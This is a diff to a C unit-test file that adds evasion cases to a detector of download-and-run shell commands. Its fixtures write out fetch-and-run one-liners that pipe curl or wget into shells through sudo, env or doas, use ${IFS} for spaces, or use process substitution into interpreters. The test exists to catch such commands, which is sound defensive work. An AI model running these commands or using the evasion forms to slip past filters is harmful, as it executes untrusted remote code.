@@ -364,6 +364,66 @@ static void test_plain_families(void **state)
 	}
 }
 
+/*
+ * Evasions an audit found (wrappers between the pipe and the shell, process
+ * substitution into any interpreter, ${IFS} for spaces), each with the
+ * severity it must get; near misses stay silent.
+ */
+struct evasion_case {
+	const char *text;
+	const char *family;
+	enum cs_severity severity;
+};
+
+static const struct evasion_case evasion_hits[] = {
+	{"curl -sL https://x | sudo -E /usr/bin/env bash", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"curl -s https://x | sudo -u root -H bash -s -- --yes", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"wget -qO- https://x | env PATH=/bin DEBUG=1 sh", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"curl https://x | doas /bin/sh", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"curl${IFS}https://x|${IFS}sh", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"curl$IFS-s$IFS'https://x'|$IFS/bin/bash", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"python3 <(curl -s https://x/a.py)", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"{\"cmd\":\"perl <(wget -qO- https://x)\"}", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"bash <(curl -s https://x)", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"sh <(wget -qO- x)", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"source <( curl -fsSL https://x/env.sh )", "pipe_to_shell", CS_SEV_CRITICAL},
+	{"/usr/bin/python3.11 -u <(curl -s https://x)", "pipe_to_shell", CS_SEV_CRITICAL},
+};
+
+static const char *const evasion_misses[] = {
+	"curl -s https://x | sudo tee /etc/apt/sources.list.d/x.list",
+	"curl -s https://x | env",
+	"curl -fsSL https://x/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
+	"diff <(curl -s https://a) <(curl -s https://b)",
+	"cat <(curl -s https://x)",
+	"echo ${IFS}sh is a variable",
+};
+
+static void test_evasions(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof(evasion_hits) / sizeof(evasion_hits[0]); i++) {
+		const struct evasion_case *c = &evasion_hits[i];
+		struct eh_sink sink = {0};
+		struct cs_detector *d = eh_detector(&sink, 0);
+
+		assert_non_null(d);
+		eh_scan(d, IN, c->text, strlen(c->text), 0);
+		const struct cs_finding *f = NULL;
+
+		for (size_t k = 0; k < sink.n; k++)
+			if (strcmp(sink.f[k].pattern, c->family) == 0)
+				f = &sink.f[k];
+		if (count_family(&sink, c->family) != 1 || f->severity != c->severity)
+			fail_msg("want one %s (severity %d) in: %s; got %zu, severity %d",
+				 c->family, c->severity, c->text, count_family(&sink, c->family),
+				 f ? (int)f->severity : -1);
+		cs_detector_free(d);
+	}
+	for (size_t i = 0; i < sizeof(evasion_misses) / sizeof(evasion_misses[0]); i++)
+		expect(IN, evasion_misses[i], NULL, NULL);
+}
+
 /* Every family of the registry is exercised above, and every rule is well formed. */
 static void test_registry_table(void **state)
 {
@@ -461,6 +521,7 @@ int main(void)
 		cmocka_unit_test(test_private_key_pem),
 		cmocka_unit_test(test_private_key_near_misses),
 		cmocka_unit_test(test_plain_families),
+		cmocka_unit_test(test_evasions),
 		cmocka_unit_test(test_registry_table),
 		cmocka_unit_test(test_disable_and_override),
 	};
